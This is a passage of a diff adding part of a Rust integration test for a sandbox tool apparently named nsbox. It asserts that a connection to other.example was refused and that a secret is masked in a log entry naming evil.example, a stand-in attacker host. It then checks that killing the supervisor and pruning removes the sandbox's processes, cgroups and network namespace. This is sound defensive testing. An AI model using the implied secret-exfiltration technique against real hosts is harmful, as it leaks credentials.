+            .any(|l| l.contains("refused") && l.contains("other.example")),
+        "{log}"
+    );
+    assert!(!log.contains("tokensecret42"), "secrets are masked: {log}");
+    assert!(log.contains("***.evil.example"), "{log}");
+
+    // A killed supervisor takes the sandbox and its network along; prune removes the rest.
+    let record: serde_json::Value = serde_json::from_slice(
+        &std::fs::read(
+            run_dir
+                .path()
+                .join("sessions")
+                .join(&id)
+                .join("session.json"),
+        )
+        .unwrap(),
+    )
+    .unwrap();
+    let supervisor = record["supervisor_pid"].as_i64().unwrap() as i32;
+    let init = record["init_pid"].as_i64().unwrap() as i32;
+    let netns = std::fs::read_link(format!("/proc/{init}/ns/net")).unwrap();
+    rustix::process::kill_process(
+        rustix::process::Pid::from_raw(supervisor).unwrap(),
+        rustix::process::Signal::KILL,
+    )
+    .unwrap();
+    assert!(eventually(5.0, || !std::path::Path::new(&format!(
+        "/proc/{init}"
+    ))
+    .exists()));
+    let _serial = prune_lock();
+    std::thread::sleep(std::time::Duration::from_millis(1100));
+    let p = nsbox(&["prune"]);
+    assert_eq!(p.code, 0, "{p:?}");
+    assert!(leftover_cgroups(&id).is_empty());
+    assert!(!run_dir.path().join("sessions").join(&id).exists());
+    // No process on the host is in the sandbox's network namespace any more (it is gone).
+    let in_netns = std::fs::read_dir("/proc")
+        .unwrap()
+        .flatten()
+        .filter(|e| std::fs::read_link(e.path().join("ns/net")).is_ok_and(|l| l == netns))
+        .count();
+    assert_eq!(in_netns, 0, "processes left in {netns:?}");
+}
